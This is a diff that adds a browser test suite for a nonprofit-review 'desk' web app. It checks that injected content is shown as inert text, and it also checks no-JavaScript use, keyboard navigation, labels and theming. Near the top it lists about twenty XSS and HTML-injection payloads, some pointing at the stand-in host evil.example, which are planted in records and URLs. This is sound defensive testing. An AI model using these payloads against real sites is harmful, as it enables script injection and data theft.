@@ -1,0 +1,214 @@
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import type { Browser, BrowserContext, Page } from "playwright-core";
+import { logOperator } from "#content/store/audit-log.ts";
+import { chromiumPath, openChromium } from "../support/chromium.ts";
+import {
+  aServedDesk,
+  deskToken,
+  plant,
+  plantNonprofit,
+  type ServedDesk,
+} from "../support/served-desk.ts";
+import { aNonprofit } from "../support/records.ts";
+
+if (chromiumPath === null) process.stderr.write("skipped: the desk's pages need a browser (Debian: apt-get install chromium)\n"); // prettier-ignore
+
+/** Each would run, break out of its place, or load something, on a page that forgot to escape it. */
+const payloads = [
+  `<script>alert(1)</script>`, `<img src=x onerror=alert(2)>`, `"><svg onload=alert(3)>`, `' onmouseover='alert(4)' x='`,
+  `</textarea><script>alert(5)</script>`, `</title><script>alert(6)</script>`, `<iframe srcdoc="<script>alert(7)</script>">`,
+  `javascript:alert(8)`, `<a href="javascript:alert(9)">x</a>`, `{{constructor.constructor('alert(10)')()}}`,
+  `<style>*{background:url(//evil.example/x)}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<form action=//evil.example><input autofocus onfocus=alert(11)>`, `<base href=//evil.example/>`,
+  `&lt;script&gt;alert(12)&lt;/script&gt;`, `\u2028alert(13)\u2029`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<!--<img src="--><img src=x onerror=alert(14)//">`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(15)>`,
+  `data:text/html,<script>alert(16)</script>`,
+]; // prettier-ignore
+
+describe.skipIf(chromiumPath === null)("the desk in a browser", () => {
+  let browser: Browser;
+  let desk: ServedDesk;
+  beforeAll(async () => {
+    browser = await openChromium();
+    desk = await aServedDesk();
+  }, 120_000);
+  afterAll(async () => {
+    await browser.close();
+    await desk.close();
+  });
+
+  type Watched = Page & { troubles: string[]; elsewhere: string[] };
+  async function open(options: { javaScriptEnabled?: boolean; colorScheme?: "dark" | "light" } = {}): Promise<Watched> {
+    const context: BrowserContext = await browser.newContext(options);
+    const page = await context.newPage();
+    const troubles: string[] = [];
+    const elsewhere: string[] = [];
+    page.on("dialog", (dialog) => {
+      troubles.push(`dialog ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    page.on("pageerror", (error) => troubles.push(error.message));
+    // A policy that stopped something says so here: the page had let it through.
+    page.on("console", (message) => {
+      if (/Content Security Policy|Refused/i.test(message.text())) troubles.push(message.text());
+    });
+    page.on("request", (request) => {
+      if (!request.url().startsWith(desk.origin)) elsewhere.push(request.url());
+    });
+    return Object.assign(page, { troubles, elsewhere });
+  } // prettier-ignore
+
+  /** An access key as a keyboard sends it: page.keyboard leaves out the text that Chromium matches them by. */
+  async function pressWithAlt(page: Page, key: string): Promise<void> {
+    const session = await page.context().newCDPSession(page);
+    const event = { modifiers: 1, key, unmodifiedText: key, windowsVirtualKeyCode: key.toUpperCase().charCodeAt(0) };
+    await session.send("Input.dispatchKeyEvent", { type: "rawKeyDown", ...event });
+    await session.send("Input.dispatchKeyEvent", { type: "char", ...event, text: key });
+    await session.send("Input.dispatchKeyEvent", { type: "keyUp", ...event });
+    await session.detach();
+  } // prettier-ignore
+
+  async function signIn(page: Page): Promise<void> {
+    await page.goto(`${desk.origin}/desk`);
+    await page.fill("#operator-token", deskToken);
+    await page.click("button");
+    await page.waitForSelector("h1:has-text('Overview')");
+  }
+
+  test("shows whatever was sent as text: no dialog, no violation of the policy, nothing asked of another host", async () => {
+    const { service } = desk;
+    for (const text of payloads) {
+      const nonprofit_id = await plantNonprofit(service, text);
+      const sent = { nonprofit_id, agent: text, source_url: text };
+      await plant(service, { ...sent, field: "mission", field_type: "prose", value: text });
+      await plant(service, { ...sent, field: "region", field_type: "structured", value: text });
+      await plant(service, { ...sent, field: "region", field_type: "structured", value: `${text} `, agent: `${text}2` });
+      await service.store.write((tx) => tx.raw.execute({ sql: "INSERT INTO pending_fields (nonprofit_id, field, pending, list_order) VALUES (?, 'region', 2, 0) ON CONFLICT DO UPDATE SET pending = 2", args: [nonprofit_id] }));
+      await plant(service, { ...sent, field: "city", field_type: "structured", value: `${text}!`, audit_only: 1, confidence: 2 });
+      await service.store.write((tx) => logOperator(tx, { operator: text, action: text, subject: text, detail: { value: text, [text]: { [text]: [text] } }, at: Date.now() }));
+      await service.store.write((tx) => tx.raw.execute({ sql: "INSERT INTO webhook_deliveries (url, event_id, type, payload, status, due_at, answer, created_at) VALUES (?, ?, ?, ?, 'failed', 0, ?, 0)", args: [text, text, text, text, text] }));
+      await service.store.write((tx) => tx.raw.execute({ sql: "INSERT INTO curated_picks (nonprofit_id, recommended_for, why_recommended, origin, added_by, updated_at) VALUES (?, ?, ?, 'operator', ?, 1)", args: [nonprofit_id, JSON.stringify([text]), text, text] }));
+    }
+    const page = await open();
+    await signIn(page);
+    const ids = await service.store.raw.execute("SELECT id, nonprofit_id, field_type, audit_only FROM submissions WHERE field IN ('mission', 'city')");
+    const reviews = ids.rows.map((row) => row["field_type"] === "prose" ? `prose-${Number(row["id"])}` : `revert-${Number(row["nonprofit_id"])}-city`);
+    const contested = ids.rows.filter((row) => row["field_type"] === "prose").map((row) => `contested-${Number(row["nonprofit_id"])}-region`);
+    const slugs = (await service.store.raw.execute("SELECT slug FROM nonprofits")).rows.map((row) => String(row["slug"]));
+    const places = [
+      "/desk", "/desk/log", "/desk/picks", "/desk/webhooks", "/desk/health", "/desk/charts", "/desk/undo",
+      ...["prose", "contested", "revert"].map((kind) => `/desk/queues/${kind}`),
+      ...[...reviews, ...contested].map((id) => `/desk/reviews/${id}`),
+      ...slugs.map((slug) => `/desk/picks/${slug}`),
+      ...payloads.flatMap((text) => {
+        const value = encodeURIComponent(text);
+        return [`/desk/log?subject=${value}&operator=${value}&action=${value}`, `/desk/undo?agent=${value}&slug=${value}`, `/desk/queues/prose?after=${value}&done=${value}`, `/desk/picks?done=${value}`, `/desk/${value}`];
+      }),
+    ];
+    expect(places.length).toBeGreaterThan(150);
+    let seen = 0;
+    for (const place of places) {
+      await page.goto(desk.origin + place);
+      const found = await page.evaluate(() => ({
+        text: document.body.innerText.length,
+        foreign: document.querySelectorAll("script, iframe, object, embed, img, style, base, meta[http-equiv]").length,
+        handlers: [...document.querySelectorAll("*")].filter((one) => [...one.attributes].some(({ name }) => name.startsWith("on"))).length,
+        links: [...document.querySelectorAll("a[href]")].map((one) => (one as HTMLAnchorElement).protocol),
+        actions: [...document.forms].map((one) => new URL(one.action, location.href).origin),
+      }));
+      expect([place, found.foreign, found.handlers]).toEqual([place, 0, 0]);
+      expect(found.links.filter((protocol) => !["http:", "https:"].includes(protocol))).toEqual([]);
+      expect(found.actions.filter((origin) => origin !== desk.origin)).toEqual([]);
+      seen += found.text;
+    }
+    expect(seen).toBeGreaterThan(10_000);
+    expect(page.troubles).toEqual([]);
+    expect(page.elsewhere).toEqual([]);
+    await page.goto(`${desk.origin}/desk/reviews/${reviews[0]}`);
+    expect(await page.textContent(".compare")).toContain(payloads[0] ?? "");
+  }, 300_000); // prettier-ignore
+
+  test("is worked through without JavaScript", async () => {
+    const { service } = desk;
+    const [record] = await service.add(aNonprofit({ mission: null }));
+    const answer = await service.post(`/api/enrich/${record?.slug}`, { field: "mission", value: "We plant trees.", agent_id: "bot" }); // prettier-ignore
+    const { submissions } = (await answer.json()) as { submissions: { submission_id: number }[] };
+    const page = await open({ javaScriptEnabled: false });
+    await page.goto(`${desk.origin}/desk/reviews/prose-${submissions[0]?.submission_id}`);
+    await page.fill("#operator-token", deskToken);
+    await page.click("button");
+    await page.fill("#value", "We plant many trees.");
+    await page.click("text=Approve >> nth=1");
+    expect(await page.textContent("[role=status]")).toContain("was approved by");
+    const profile = await (await service.get(`/api/nonprofits/${record?.slug}`)).json();
+    expect((profile as { mission: string }).mission).toBe("We plant many trees.");
+    await page.click("text=Sign out");
+    expect(await page.textContent("h1")).toBe("Sign in");
+  }, 60_000);
+
+  test("is worked through by keyboard alone: skip link, order, visible focus, access keys", async () => {
+    const { service } = desk;
+    const [record] = await service.add(aNonprofit({ tagline: null }));
+    const answer = await service.post(`/api/enrich/${record?.slug}`, { field: "tagline", value: "Trees for all", agent_id: "bot" }); // prettier-ignore
+    const { submissions } = (await answer.json()) as { submissions: { submission_id: number }[] };
+    const id = `prose-${submissions[0]?.submission_id}`;
+    const page = await open();
+    await page.goto(`${desk.origin}/desk/reviews/${id}`);
+    await page.keyboard.type(deskToken); // The field has the focus from the start.
+    await page.keyboard.press("Enter");
+    await page.waitForSelector(".decide");
+    await page.keyboard.press("Tab");
+    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Skip to content");
+    expect(await page.evaluate(() => (document.activeElement as HTMLElement).getBoundingClientRect().top)).toBeGreaterThanOrEqual(0); // prettier-ignore
+    await page.keyboard.press("Enter");
+    const walked: string[] = [];
+    for (let at = 0; at < 60; at++) {
+      await page.keyboard.press("Tab");
+      const one = await page.evaluate(() => {
+        const element = document.activeElement as HTMLElement;
+        const { outlineStyle, outlineWidth } = getComputedStyle(element);
+        const label = (element as HTMLInputElement).labels?.[0]?.textContent ?? element.getAttribute("aria-label") ?? element.textContent ?? ""; // prettier-ignore
+        return { name: label.replace(/\s+/g, " ").trim(), outline: outlineStyle !== "none" && outlineWidth !== "0px", tag: element.tagName }; // prettier-ignore
+      });
+      if (one.tag === "BODY") break;
+      expect([one.name, one.outline]).toEqual([one.name, true]);
+      expect(one.name).not.toBe("");
+      walked.push(one.name);
+    }
+    const order = ["which you may edit", "for the log", "Approve", "whoever sent it", "Reject", "go to the next"].map((part) => walked.findIndex((name) => name.includes(part))); // prettier-ignore
+    expect(order).toEqual(order.toSorted((a, b) => a - b));
+    expect(order.every((at) => at >= 0)).toBe(true);
+    await pressWithAlt(page, "r");
+    expect(await page.evaluate(() => document.activeElement?.id)).toBe("reject-reason");
+    await page.keyboard.type("Not true");
+    await page.keyboard.press("Tab");
+    await page.keyboard.press("Enter");
+    await page.waitForSelector("[role=status]");
+    expect(await page.textContent("[role=status]")).toContain(id);
+    await pressWithAlt(page, "4");
+    await page.waitForURL("**/desk/log");
+    expect(page.troubles).toEqual([]);
+  }, 60_000);
+
+  test("every field has a label, every page one heading and a language, in light and in dark", async () => {
+    for (const colorScheme of ["light", "dark"] as const) {
+      const page = await open({ colorScheme });
+      await signIn(page);
+      const grounds: string[] = [];
+      for (const place of ["/desk", "/desk/queues", "/desk/queues/prose", "/desk/picks", "/desk/undo", "/desk/log", "/desk/health", "/desk/charts", "/desk/webhooks"]) {
+        await page.goto(desk.origin + place);
+        const found = await page.evaluate(() => ({
+          lang: document.documentElement.lang,
+          headings: document.querySelectorAll("h1").length,
+          unlabelled: [...document.querySelectorAll("input:not([type=hidden]), textarea, select")].filter((one) => (one as HTMLInputElement).labels?.length === 0).length,
+          ids: document.querySelectorAll("[id]").length - new Set([...document.querySelectorAll("[id]")].map(({ id }) => id)).size,
+          ground: getComputedStyle(document.documentElement).backgroundColor,
+          wide: document.documentElement.scrollWidth > document.documentElement.clientWidth + 1,
+        }));
+        expect([place, found.lang, found.headings, found.unlabelled, found.ids, found.wide]).toEqual([place, "en", 1, 0, 0, false]);
+        grounds.push(found.ground);
+      }
+      expect(new Set(grounds)).toEqual(new Set([colorScheme === "dark" ? "rgb(20, 25, 23)" : "rgb(251, 250, 247)"]));
+    }
+  }, 120_000); // prettier-ignore
+});
